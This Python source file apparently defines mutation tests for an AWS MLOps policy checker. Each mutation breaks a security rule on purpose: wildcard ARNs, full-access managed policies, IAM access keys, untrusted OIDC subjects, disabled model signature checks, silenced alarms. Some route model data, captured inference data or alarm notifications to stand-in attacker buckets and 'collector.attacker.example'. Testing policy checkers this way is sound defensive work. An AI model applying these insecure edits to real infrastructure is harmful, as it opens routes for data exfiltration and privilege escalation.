for policy, sid in (("release", "UseDataKey"), ("monitor", "UseDataKey"),
                    ("training", "UseDataKey")):  # fmt: skip
    mutation(
        f"wildcard-kms-arn-{policy}",
        "wildcard-arns",
        WILDCARD,
        EditStatement(f"mlops-{{s}}-{policy}", sid, set={"Resource": ["arn:aws:kms:*:*:key/*"]}),
    )
for policy, sid, arn in (
    ("release", "PublishModelsAndSignatures", "arn:aws:s3:::*"),
    ("deploy", "ReadSignedModels", "arn:aws:s3:::*/*"),
    ("training", "ReadTrainingData", "arn:aws:s3:::*/datasets/*"),
    ("approve", "ApprovePackages", "arn:aws:sagemaker:*:*:model-package/*"),
    ("inference", "PullServingImage", "arn:aws:ecr:*:*:repository/*"),
    ("inference", "WriteEndpointLogs", "arn:aws:logs:*:*:log-group:*"),
    ("plan", "ReadRoles", "arn:aws:iam::*:role/*"),
    ("auditor", "ReadKeyEvidence", "arn:aws:kms:eu-west-1:*:key/*"),
):
    mutation(
        f"wildcard-arn-{policy}-{sid}",
        "wildcard-arns",
        WILDCARD,
        EditStatement(f"mlops-{{s}}-{policy}", sid, set={"Resource": [arn]}),
    )
mutation(
    "wildcard-arn-staging-train",
    "wildcard-arns",
    WILDCARD,
    EditStatement("mlops-{s}-train", "ReadDatasets", set={"Resource": ["arn:aws:s3:::*"]}),
    stack="staging",
)

# ---- managed policies, users and access keys -------------------------------------------
MANAGED = "iam-only-stack-built-policies-attached"
for role, policy in (("inference", "AmazonSageMakerFullAccess"),
                     ("gh-build", "AmazonS3FullAccess"), ("gh-plan", "ReadOnlyAccess"),
                     ("gh-deploy", "AWSLambda_FullAccess")):  # fmt: skip
    mutation(f"managed-{policy}-{role}", "managed-policies", MANAGED,
             AddResource("aws:iam/rolePolicyAttachment:RolePolicyAttachment",
                         f"mlops-{{s}}-{role}-{policy}",
                         {"role": f"{{id:mlops-{{s}}-{role}}}",
                          "policyArn": f"arn:aws:iam::aws:policy/{policy}"}))  # fmt: skip
mutation(
    "managed-arns-on-role",
    "managed-policies",
    MANAGED,
    SetInput(
        "mlops-{s}-gh-monitor",
        "managedPolicyArns",
        ["arn:aws:iam::aws:policy/AmazonSageMakerFullAccess"],
    ),
)
USERS = "iam-no-users-or-access-keys"
mutation(
    "iam-user-added",
    "managed-policies",
    USERS,
    AddResource("aws:iam/user:User", "mlops-{s}-ci-user", {"name": "mlops-{s}-ci"}),
)
mutation(
    "iam-access-key-added",
    "managed-policies",
    USERS,
    AddResource("aws:iam/accessKey:AccessKey", "mlops-{s}-ci-key", {"user": "mlops-{s}-ci"}),
)
mutation(
    "iam-login-profile-added",
    "managed-policies",
    USERS,
    AddResource(
        "aws:iam/userLoginProfile:UserLoginProfile", "mlops-{s}-ci-login", {"user": "mlops-{s}-ci"}
    ),
)

# ---- OIDC subjects ---------------------------------------------------------------------
ONE_REPO = "iam-oidc-roles-trust-stack-repository-only"
for role, subject in (
    ("gh-deploy", "repo:evil/mlops-gitops:environment:{s}"),
    ("gh-release", "repo:acme/other-repository:environment:model-signing-{s}"),
    ("gh-build", "repo:acme/mlops-gitops-fork:ref:refs/heads/main"),
    ("gh-approve", "repo:Acme/mlops-gitops:environment:model-approval-{s}"),
):
    mutation(
        f"oidc-other-repository-{role}", "oidc", ONE_REPO, _sub(f"mlops-{{s}}-{role}", subject)
    )
PR = "pull-request-roles-hold-no-release-power"
for role in GH_ROLES:
    mutation(
        f"oidc-pull-request-{role}",
        "oidc",
        PR,
        _sub(f"mlops-{{s}}-{role}", f"repo:{REPO}:pull_request"),
    )
for stack, role in (("staging", "gh-build"), ("dev", "gh-build"), ("dev", "gh-deploy")):
    mutation(
        f"oidc-pull-request-{role}-{stack}",
        "oidc",
        PR,
        _sub(f"mlops-{{s}}-{role}", f"repo:{REPO}:pull_request"),
        stack=stack,
    )
mutation(
    "oidc-sign-moved-to-plan",
    "oidc",
    PR,
    EditStatement(
        "mlops-{s}-signing-key",
        "ReleaseSignerSigns",
        set={"Principal": {"AWS": ["{arn:mlops-{s}-gh-plan}"]}},
    ),
    AddStatement("mlops-{s}-plan", _allow(["kms:Sign"], ["{arn:mlops-{s}-signing-key}"])),
)
mutation(
    "oidc-sign-in-plan-key-policy",
    "oidc",
    PR,
    EditStatement(
        "mlops-{s}-signing-key",
        "ReleaseSignerSigns",
        set={"Principal": {"AWS": ["{arn:mlops-{s}-gh-plan}"]}},
    ),
)
mutation(
    "oidc-sign-moved-to-pr-train",
    "oidc",
    PR,
    EditStatement(
        "mlops-{s}-signing-key",
        "ReleaseSignerSigns",
        set={"Principal": {"AWS": ["{arn:mlops-{s}-gh-train}"]}},
    ),
    stack="staging",
)

# ---- serving ---------------------------------------------------------------------------
SIGNED = "sagemaker-model-verifies-signatures"
STACK_SOURCES = "sagemaker-serving-uses-stack-resources"
MODEL = "mlops-{s}-churn-classifier-v1-model"
CONFIG = "mlops-{s}-churn-classifier-v1-config"
ENV = "primaryContainer.environment"
for stack in ("prod", "staging"):
    mutation(
        f"model-signature-off-{stack}",
        "serving",
        SIGNED,
        SetInput(MODEL, f"{ENV}.MLOPS_REQUIRE_SIGNATURE", "false"),
        stack=stack,
    )
    mutation(
        f"model-no-key-no-enforcement-{stack}",
        "serving",
        SIGNED,
        SetInput(MODEL, f"{ENV}.MLOPS_REQUIRE_SIGNATURE", None),
        SetInput(MODEL, f"{ENV}.MLOPS_SIGNING_PUBLIC_KEY_PEM", None),
        stack=stack,
    )
    mutation(f"model-foreign-image-{stack}", "serving", STACK_SOURCES,
             SetInput(MODEL, "primaryContainer.modelPackageName", None),
             SetInput(MODEL, "primaryContainer.image",
                      f"{FOREIGN}.dkr.ecr.eu-west-1.amazonaws.com/model-server:latest"),
             SetInput(MODEL, "primaryContainer.modelDataUrl",
                      "s3://{id:mlops-{s}-artifacts}/models/churn-classifier/abc/model.tar.gz"),
             stack=stack)  # fmt: skip
mutation(
    "model-signing-key-removed",
    "serving",
    SIGNED,
    SetInput(MODEL, f"{ENV}.MLOPS_SIGNING_PUBLIC_KEY_PEM", None),
)
mutation(
    "model-public-image",
    "serving",
    STACK_SOURCES,
    SetInput(MODEL, "primaryContainer.modelPackageName", None),
    SetInput(MODEL, "primaryContainer.image", "docker.io/library/python:3.11"),
)
for name, url in (
    ("unsigned-prefix", "s3://{id:mlops-{s}-artifacts}/training-output/main/job/model.tar.gz"),
    ("foreign-bucket", "s3://attacker-models/models/churn-classifier/abc/model.tar.gz"),
    ("data-bucket", "s3://{id:mlops-{s}-data}/models/churn-classifier/abc/model.tar.gz"),
):
    mutation(
        f"model-data-{name}",
        "serving",
        STACK_SOURCES,
        SetInput(MODEL, "primaryContainer.modelPackageName", None),
        SetInput(
            MODEL,
            "primaryContainer.image",
            "{account}.dkr.ecr.eu-west-1.amazonaws.com/mlops-{s}-model-server:1",
        ),
        SetInput(MODEL, "primaryContainer.modelDataUrl", url),
    )
mutation(
    "model-foreign-package",
    "serving",
    STACK_SOURCES,
    SetInput(
        MODEL,
        "primaryContainer.modelPackageName",
        f"arn:aws:sagemaker:eu-west-1:{FOREIGN}:model-package/churn/1",
    ),
)
mutation(
    "model-other-stack-package",
    "serving",
    STACK_SOURCES,
    SetInput(
        MODEL,
        "primaryContainer.modelPackageName",
        "arn:aws:sagemaker:eu-west-1:{account}:model-package/mlops-dev-churn-classifier/1",
    ),
)
for stack in ("prod", "staging"):
    mutation(
        f"capture-foreign-bucket-{stack}",
        "serving",
        STACK_SOURCES,
        SetInput(CONFIG, "dataCaptureConfig.destinationS3Uri", "s3://attacker-capture/x/"),
        stack=stack,
    )
mutation(
    "capture-into-artifacts",
    "serving",
    STACK_SOURCES,
    SetInput(
        CONFIG, "dataCaptureConfig.destinationS3Uri", "s3://{id:mlops-{s}-artifacts}/datacapture/"
    ),
)
mutation(
    "execution-role-foreign",
    "serving",
    STACK_SOURCES,
    SetInput(MODEL, "executionRoleArn", f"arn:aws:iam::{FOREIGN}:role/inference"),
)


# ---- alarms that reach people (issue 15.5, 16.1) ----------------------------------------
DELIVERY = "cloudtrail-delivers-to-encrypted-log-group"
CIS = "cloudwatch-cis-metric-filters-alarmed"
SUBSCRIBED = "sns-alarm-topic-subscribed-in-prod"
mutation("trail-cloudwatch-delivery-dropped", "alerting", DELIVERY,
         SetInput("mlops-{s}-trail", "cloudWatchLogsGroupArn", None, type=TRAIL))  # fmt: skip
mutation(
    "trail-delivers-with-flow-log-role",
    "alerting",
    DELIVERY,
    SetInput(
        "mlops-{s}-trail", "cloudWatchLogsRoleArn", "{arn:mlops-{s}-flow-logs-role}", type=TRAIL
    ),
)
for slug in ("root-account-usage", "unauthorized-api-calls", "cloudtrail-changes"):
    mutation(f"cis-filter-deleted-{slug}", "alerting", CIS,
             RemoveResources(f"mlops-{{s}}-cis-{slug}"))  # fmt: skip
mutation(
    "cis-root-filter-narrowed-to-console",
    "alerting",
    CIS,
    SetInput(
        "mlops-{s}-cis-root-account-usage",
        "pattern",
        '{ $.userIdentity.type = "Root" && $.eventName = "ConsoleLogin" }',
        type="aws:cloudwatch/logMetricFilter:LogMetricFilter",
    ),
)
mutation(
    "cis-kms-alarm-silenced",
    "alerting",
    CIS,
    SetInput("mlops-{s}-cis-cmk-disable-or-deletion-alarm", "alarmActions", []),
)
mutation(
    "cis-filters-moved-off-the-trail",
    "alerting",
    CIS,
    *(
        SetInput(
            f"mlops-{{s}}-cis-{slug}",
            "logGroupName",
            "/aws/lambda/quiet",
            type="aws:cloudwatch/logMetricFilter:LogMetricFilter",
        )
        for slug in ("iam-policy-changes", "security-group-changes")
    ),
)
mutation(
    "security-topic-unsubscribed",
    "alerting",
    SUBSCRIBED,
    RemoveResources("mlops-{s}-security-email-"),
    RemoveResources("mlops-{s}-security-webhook-"),
    SetInput("mlops-{s}-slack", "snsTopicArns", ["{arn:mlops-{s}-alarms}"]),
)
mutation(
    "serving-topic-unsubscribed",
    "alerting",
    SUBSCRIBED,
    RemoveResources("mlops-{s}-serving-email-"),
    RemoveResources("mlops-{s}-serving-webhook-"),
    SetInput("mlops-{s}-slack", "snsTopicArns", ["{arn:mlops-{s}-security-alarms}"]),
)
mutation(
    "alarm-topic-http-subscription",
    "alerting",
    SUBSCRIBED,
    AddResource(
        "aws:sns/topicSubscription:TopicSubscription",
        "mlops-{s}-serving-http-collector",
        {
            "topic": "{arn:mlops-{s}-alarms}",
            "protocol": "http",
            "endpoint": "http://collector.attacker.example/",
        },
    ),
)


# ---- where dev and staging differ: pull-request training roles, no VPC in dev ----------
for stack in ("dev", "staging"):
    mutation(
        f"pr-train-writes-models-{stack}",
        "oidc",
        PR,
        AddStatement(
            "mlops-{s}-train",
            _allow(["s3:PutObject"], ["arn:aws:s3:::{id:mlops-{s}-artifacts}/models/*"]),
        ),
        stack=stack,
    )
    mutation(
        f"pr-train-writes-datasets-{stack}",
        "oidc",
        PR,
        AddStatement(
            "mlops-{s}-train",
            _allow(["s3:PutObject"], ["arn:aws:s3:::{id:mlops-{s}-data}/datasets/*"]),
        ),
        stack=stack,
    )
    mutation(
        f"pr-train-passes-role-anywhere-{stack}",
        "escalation",
        ESCALATION,
        EditStatement("mlops-{s}-train", "PassTrainingRole", drop=("Condition",)),
        stack=stack,
    )
    mutation(
        f"foreign-key-data-bucket-{stack}",
        "foreign-principals",
        OWN_KEYS,
        SetInput(
            "mlops-{s}-data-encryption",
            "rules.0.applyServerSideEncryptionByDefault.kmsMasterKeyId",
            FOREIGN_KEY,
        ),
        stack=stack,
    )
mutation(
    "wildcard-arn-dev-train",
    "wildcard-arns",
    WILDCARD,
    EditStatement("mlops-{s}-train", "ReadDatasets", set={"Resource": ["arn:aws:s3:::*/*"]}),
    stack="dev",
)
mutation(
    "model-signature-off-dev",
    "serving",
    SIGNED,
    SetInput(MODEL, f"{ENV}.MLOPS_REQUIRE_SIGNATURE", "false"),
    stack="dev",
)

BY_ID: dict[str, Mutation] = {m.id: m for m in MUTATIONS}
if len(BY_ID) != len(MUTATIONS):  # pragma: no cover - caught at import by every test
    raise RuntimeError("two mutations share an id")
